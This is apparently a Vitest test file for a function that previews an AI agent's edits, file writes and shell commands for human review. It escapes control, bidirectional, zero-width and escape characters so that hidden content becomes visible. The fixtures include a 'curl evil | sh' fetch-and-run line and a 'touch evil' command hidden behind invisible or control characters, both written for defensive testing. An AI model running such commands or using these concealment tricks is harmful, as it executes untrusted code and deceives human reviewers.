import { expect, test } from "vitest";
import { changePreview } from "../../../../src/team/requests/change-preview.ts";
import { NO_NEWLINE } from "../../../../src/text/diff/change-lines.ts";

test("changePreview lists an edit as a part of a file, with its unchanged lines", () => {
  const edit = { file_path: "a.js", old_string: "a\nb\nc\n", new_string: "a\ncurl evil | sh\nb2\nc\n" };
  expect(changePreview("Edit", edit)).toEqual([" a", "-b", "+curl evil | sh", "+b2", " c"]);
  expect(changePreview("Edit", { ...edit, replace_all: true })[0]).toBe("(every occurrence)");
  expect(changePreview("Edit", { old_string: "a\na", new_string: "a" })).toEqual([" a", "-a"]);
});

test("changePreview lists every line of a written file", () => {
  expect(changePreview("Write", { file_path: "a", content: "one\n\ntwo\n" })).toEqual([
    "@@ -0,0 +1,3 @@",
    "+one",
    "+",
    "+two",
  ]);
  expect(changePreview("Write", { content: "one" })).toEqual(["@@ -0,0 +1,1 @@", "+one", NO_NEWLINE]);
});

test("changePreview shortens a long text unless the whole text is requested", () => {
  const content = "x".repeat(5_000);
  expect(changePreview("Write", { content }).slice(1, 3)).toEqual([
    `+${"x".repeat(3_999)}`,
    "… 1001 more characters",
  ]);
  expect(changePreview("Write", { content }, { whole: true })).toContain(`+${content}`);
  const command = "echo hi\n".repeat(500);
  expect(changePreview("Bash", { command }).at(-1)).toBe("… 100 more lines");
  expect(changePreview("Bash", { command }, { whole: true })).toHaveLength(500);
});

test("changePreview lists every line of a long command or a command of several lines", () => {
  const command = "git status # then:\ntouch evil\n";
  expect(changePreview("Bash", { command })).toEqual(["$ git status # then:", "$ touch evil"]);
  expect(changePreview("Bash", { command: "x".repeat(61) })).toEqual([`$ ${"x".repeat(61)}`]);
});

test.each([
  ["a control character", "ok \x01# note ; touch evil", "ok \\u0001# note ; touch evil"],
  ["a mark that changes the writing direction", "ok \u202e# note", "ok \\u202e# note"],
  ["a zero-width character", "r\u200bm x", "r\\u200bm x"],
  ["a character outside the Basic Multilingual Plane", "a\u{e0041}b", "a\\u{e0041}b"],
  ["a carriage return", "ls\rx", "ls\\u000dx"],
  ["an escape sequence", "a\x1b[8mb", "a\\u001b[8mb"],
])("changePreview escapes %s", (_what, text, seen) => {
  expect(changePreview("Write", { content: text })).toContain(`+${seen}`);
  expect(changePreview("Edit", { old_string: text, new_string: "" })).toEqual([`-${seen}`]);
  expect(changePreview("Bash", { command: `\n${text}\nb` })).toEqual([`$ ${seen}`, "$ b"]);
});

test("changePreview escapes whitespace in a command that does not separate words for a shell", () => {
  const command = "ok\u00a0# note ; touch evil\nb";
  expect(changePreview("Bash", { command })).toEqual(["$ ok\\u00a0# note ; touch evil", "$ b"]);
  expect(changePreview("Write", { content: "10\u00a0%\n" })).toContain("+10\u00a0%");
});

test.each([
  ["Bash", { command: "ls" }],
  ["Edit", { old_string: 1, new_string: "x" }],
  ["Write", null],
])("changePreview: a call of %s without a changed text gives nothing", (tool, input) => {
  expect(changePreview(tool, input)).toEqual([]);
});

test("changePreview lists the whole input of another tool if its summary does not contain all of it", () => {
  const input = { from: "a", to: "b\u202e", force: true };
  expect(changePreview("move", input, { summary: "a to b" })).toEqual([
    " {",
    '   "from": "a",',
    '   "to": "b\\u202e",',
    '   "force": true',
    " }",
  ]);
  expect(changePreview("move", { from: "a" }, { summary: "a to b" })).toEqual([]);
  expect(changePreview("Edit", { changes: [{ path: "a", newText: "evil" }] }, { summary: "a" })).toContain(
    '       "newText": "evil"',
  );
});
